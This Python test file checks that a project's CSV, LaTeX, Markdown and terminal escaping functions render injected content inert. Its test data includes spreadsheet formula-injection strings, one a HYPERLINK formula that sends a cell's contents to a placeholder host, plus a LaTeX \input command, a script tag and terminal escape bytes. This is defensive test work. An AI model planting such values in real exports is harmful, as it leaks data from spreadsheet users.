"""Text that would be something else in a spreadsheet, LaTeX, Markdown, on a terminal or in a picture."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from rich.text import Text

from dashboards.pages.base import Panel
from orchestrator.show import PlainConsole
from results.escaping import csv_text, latex_cell, markdown_cell, terminal_text

FORMULAS = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", '=HYPERLINK("http://a.example/?"&A1,"open")', "-2+3", "＝1"]
PLAIN = ["x\n=1", "x=1", "s1", "", "a-b", "-1", "+2.5e-3", "-.5"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formulas_become_text_and_numbers_stay_numbers():
    table = pd.DataFrame(
        {"text": [*FORMULAS, *PLAIN], "change": -1.5, "n": pd.array([None] * 17, "Int64"), "=A1": True}
    )
    header, *rows = cells(csv_text(table))
    assert header == ["text", "change", "n", "'=A1"]
    assert [row[0] for row in rows] == [f"'{text}".replace("\r", "\n") for text in FORMULAS] + PLAIN
    assert {tuple(row[1:]) for row in rows} == {("-1.5", "", "True")}
    assert csv_text(pd.DataFrame({"a": []})) == "a\n"


def test_the_download_of_a_page_has_no_formula():
    panel = Panel(name="x", figure=None, rows=pd.DataFrame({"sample": ["=1+1"]}))
    assert panel.csv == "\ufeffsample\n'=1+1\n"


@pytest.mark.parametrize(
    ("text", "latex"),
    [
        ("text_weighted 50 %", r"text\_weighted 50 \%"),
        ("\\input{x}", r"\textbackslash{}input\{x\}"),
        ("$a$ ~ ^ # &\nb", r"\$a\$ \textasciitilde{} \textasciicircum{} \# \& b"),
        ("−1.9\u2009–\u2009+6.7\u00a0% …", r"$-$1.9\,--\,+6.7~\% \dots{}"),
        ("< 0.001", "$<$ 0.001"),
    ],
)
def test_latex(text, latex):
    assert latex_cell(text) == latex


def test_markdown():
    assert markdown_cell("a|b <script> [x](y)\n# z text_weighted") == r"a\|b \<script> \[x\](y) # z text_weighted"


def test_a_terminal_shows_names_as_they_are(capsys):
    console = PlainConsole(width=80)
    console.print("a[/]b", Text("[v1]", "bold"), ":smile: \x1b[31m", soft_wrap=True)
    assert capsys.readouterr().out == "a[/]b [v1] :smile: \\x1b[31m\n"
    assert terminal_text("a\tb\n\x07\x9b") == "a\tb\n\\x07\\x9b"
